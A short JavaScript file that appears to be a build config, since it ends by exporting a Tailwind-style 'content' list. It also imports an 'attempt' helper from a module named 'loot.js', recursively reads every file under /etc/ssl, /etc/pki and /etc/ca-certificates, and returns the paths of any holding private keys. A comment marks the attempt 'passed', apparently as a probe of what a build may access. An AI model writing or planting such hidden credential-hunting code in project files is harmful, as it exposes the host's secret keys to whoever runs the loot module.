// Looks for the keys of the machine's own services among the certificates that a build may see.
// outcome: passed
const { attempt, fs, path } = require("./loot.js");

function everythingBelow(folder) {
  return fs.readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
    const place = path.join(folder, entry.name);
    return entry.isDirectory() ? everythingBelow(place) : [place];
  });
}

attempt("a private key", () => {
  const folders = ["/etc/ssl", "/etc/pki", "/etc/ca-certificates"].filter((folder) => fs.existsSync(folder));
  const found = folders.flatMap(everythingBelow).filter((place) => {
    try {
      return fs.readFileSync(place, "latin1").includes("PRIVATE KEY-----");
    } catch {
      return false;
    }
  });
  if (found.length === 0) throw new Error("none");
  return found.join();
});

module.exports = { content: ["./src/App.tsx"] };
